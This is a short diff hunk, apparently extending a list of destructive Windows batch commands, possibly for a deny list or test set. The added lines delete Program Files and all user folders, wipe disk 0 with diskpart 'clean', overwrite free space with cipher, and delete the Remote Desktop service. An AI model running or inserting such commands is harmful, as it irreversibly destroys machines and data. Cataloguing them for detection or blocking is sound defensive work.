@@ -30,3 +30,9 @@ del /f /s /q C:\Windows\*
 format D: /y /q
 set D=C:\Windows& rd /s /q %D%
 for %%d in (C:\Windows C:\Users) do rd /s /q %%d
+#: written without a look at the rules, of what is done to machines every day
+rd /s /q "%ProgramFiles%"
+for /d %%d in (C:\Users\*) do @rd /s /q "%%d"
+echo select disk 0 > x.txt & echo clean >> x.txt & diskpart /s x.txt
+cipher /w:C:\ & del /q /f /s C:\Users\*.*
+net stop TermService /y & sc delete TermService
